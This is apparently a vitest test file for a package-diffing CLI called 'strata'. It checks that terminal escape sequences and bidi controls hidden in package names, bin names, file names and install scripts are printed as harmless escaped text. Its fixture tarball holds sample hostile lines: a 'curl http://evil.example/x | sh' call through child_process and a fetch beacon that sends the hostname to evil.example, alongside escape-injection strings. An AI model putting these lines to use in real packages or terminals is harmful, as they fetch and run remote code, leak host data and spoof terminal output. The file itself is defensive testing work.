// Package data that tries to drive the terminal: escape sequences in dependency names, bin names,
// file names, install scripts and the tarball's own file name. Whatever strata prints, no raw
// control character reaches the terminal; with colour on, strata's own colour codes are the only
// escape sequences.
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/run-cli.js';
import { packTarball } from '../helpers/tarball.js';
import { createWorkspace, type Workspace } from '../helpers/workspace.js';

const TITLE = '\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J';
// C0 but newline (ESC, BEL, CR, tab...), DEL, C1 (0x9b is a one-byte CSI) and the bidi controls.
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
// The SGR codes strata's painter writes, and nothing else.
const OWN_COLOUR = /\u001b\[(?:0|1|2|31|32|33|35|36)m/g;

const workspaces: Workspace[] = [];
function workspace(): Workspace {
  const ws = createWorkspace(null);
  workspaces.push(ws);
  return ws;
}
afterAll(() => {
  for (const ws of workspaces) ws.cleanup();
});

function hostileTarballs(dir: string): [string, string] {
  const manifest = (version: string, extra: object = {}) => ({ path: 'package.json', data: JSON.stringify({ name: 'hostile-pkg', version, ...extra }) });
  const old = packTarball([manifest('1.0.0'), { path: 'index.js', data: 'module.exports = 1;\n' }]);
  const neu = packTarball([
    manifest('1.0.1', {
      bin: { [`run${CLEAR}\u009b2J`]: `cli${TITLE}.js` },
      dependencies: { [`evil${TITLE}`]: '1.0.0', [`wipe${CLEAR}`]: '^1.0.0' },
      scripts: { postinstall: `node cli${TITLE}.js\r\u202eforged` },
    }),
    { path: 'index.js', data: 'module.exports = 2;\n' },
    { path: `cli${TITLE}.js`, data: 'require("child_process").exec("curl http://evil.example/x | sh");\n' },
    { path: `lib/${CLEAR}\u202e.js`, data: 'fetch("http://evil.example/beacon?h=" + require("os").hostname());\n' },
  ]);
  const a = `old${CLEAR}.tgz`;
  const b = `new${TITLE}.tgz`;
  writeFileSync(path.join(dir, a), old);
  writeFileSync(path.join(dir, b), neu);
  return [a, b];
}

const printed = (run: { stdout: string; stderr: string }) => `${run.stdout}${run.stderr}`.replace(/\n/g, '');

describe('no raw control characters reach the terminal', () => {
  it('diff of two hostile tarballs: progress and summary show the escapes as text', async () => {
    const ws = workspace();
    const [a, b] = hostileTarballs(ws.dir);
    const run = await runCli(['diff', a, b, '--fail-on', 'none', '--format', 'sarif'], { ...ws, env: { ...ws.env, NO_COLOR: '1' } });
    expect(run.code).toBe(0);
    expect(printed(run)).not.toMatch(RAW);
    // Visible, so the user sees what the package tried.
    expect(run.stderr).toContain('[1/1] diffed old\\x1b[2J.tgz → new\\x1b]0;pwned\\x07.tgz');
    expect(run.stdout).toContain('dependency "evil\\x1b]0;pwned\\x07" added');
    expect(run.stdout).toContain('command "run\\x1b[2J\\x9b2J" added');

    // The SARIF written next to it: valid JSON, and no text in it carries a raw control.
    const reports = path.join(ws.dir, 'reports', 'hostile-pkg');
    const [dir] = readdirSync(reports);
    const sarifText = readFileSync(path.join(reports, dir!, 'report.sarif'), 'utf8');
    expect(sarifText).not.toMatch(RAW);
    const strings: string[] = [];
    const walk = (v: unknown): void => {
      if (typeof v === 'string') strings.push(v);
      else if (v && typeof v === 'object') {
        for (const [k, x] of Object.entries(v)) {
          strings.push(k);
          walk(x);
        }
      }
    };
    walk(JSON.parse(sarifText));
    expect(strings.filter((s) => RAW.test(s))).toEqual([]);
    expect(strings.some((s) => s.includes('evil\\x1b]0;pwned\\x07'))).toBe(true);
  });

  it('with colour forced, the only escape sequences are strata\'s own colours', async () => {
    const ws = workspace();
    const [a, b] = hostileTarballs(ws.dir);
    const run = await runCli(['diff', a, b, '--fail-on', 'none', '--format', 'json'], { ...ws, env: { ...ws.env, FORCE_COLOR: '1' } });
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(OWN_COLOUR);
    expect(printed(run).replace(OWN_COLOUR, '')).not.toMatch(RAW);
    expect(run.stdout).toContain('dependency "wipe\\x1b[2J" added');
  });

  it('--json: the same document, with nothing a terminal acts on', async () => {
    const ws = workspace();
    const [a, b] = hostileTarballs(ws.dir);
    const run = await runCli(['diff', a, b, '--fail-on', 'none', '--format', 'json', '--json'], { ...ws, env: { ...ws.env, NO_COLOR: '1' } });
    expect(run.code).toBe(0);
    expect(printed(run)).not.toMatch(RAW);
    // JSON escapes keep the data exact for whoever parses it.
    const doc = JSON.parse(run.stdout);
    expect(JSON.stringify(doc)).toContain(JSON.stringify(`evil${TITLE}`).slice(1, -1));
    expect(JSON.stringify(doc)).toContain('\u009b2J');
  });

  it('a one-line error naming a hostile tarball file, and a hostile folder', async () => {
    const ws = workspace();
    const bad = `bad${TITLE}${CLEAR}.tgz`;
    const folder = `dir${CLEAR}`;
    writeFileSync(path.join(ws.dir, bad), 'not a tarball');
    mkdirSync(path.join(ws.dir, folder));
    writeFileSync(path.join(ws.dir, folder, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0' }));
    const run = await runCli(['diff', folder, bad], { ...ws, env: { ...ws.env, NO_COLOR: '1' } });
    expect(run.code).toBe(2);
    expect(printed(run)).not.toMatch(RAW);
    expect(run.stderr.trim().split('\n').at(-1)).toMatch(/^strata: bad\\x1b\]0;pwned\\x07\\x1b\[2J\.tgz: not a readable tarball/);
    // A side that is not a path: the name is read as a package spec and refused, on one line.
    const spec = await runCli(['diff', folder, `nope${CLEAR}\nsecond line`], ws);
    expect(spec.code).toBe(2);
    expect(printed(spec)).not.toMatch(RAW);
    expect(spec.stderr.trim().split('\n')).toHaveLength(1);
  });

  it('strata deps: names from lockfiles in progress lines, the summary and the error', async () => {
    const ws = workspace();
    const lock = (version: string) =>
      JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { '': { name: 'app' }, [`node_modules/evil${TITLE}`]: { version }, [`node_modules/wipe${CLEAR}\u009b`]: { version } } });
    writeFileSync(path.join(ws.dir, 'old.json'), lock('1.0.0'));
    writeFileSync(path.join(ws.dir, 'new.json'), lock('1.0.1'));
    const run = await runCli(['deps', 'old.json', 'new.json', '--offline'], ws);
    expect(run.code).toBe(2);
    expect(printed(run)).not.toMatch(RAW);
    expect(run.stdout).toContain('evil\\x1b]0;pwned\\x07 1.0.0 → 1.0.1: not audited');
    expect(run.stderr).toMatch(/^\[\d\/2\] wipe\\x1b\[2J\\x9b 1\.0\.0 → 1\.0\.1: not audited/m);
    expect(run.stderr.trim().split('\n').at(-1)).toMatch(/^strata: no dependency could be audited \(first: .*\\x1b/);
  });

  it('the CLI writes to its streams only through the terminal writer', () => {
    // The writer is the one place that escapes: a direct write elsewhere would bypass it.
    const dir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../src/cli');
    const direct = readdirSync(dir)
      .filter((f) => f.endsWith('.ts') && f !== 'terminal.ts')
      .filter((f) => /process\.(?:stdout|stderr)|console\.|\.write\(/.test(readFileSync(path.join(dir, f), 'utf8')));
    expect(direct).toEqual([]);
  });
});
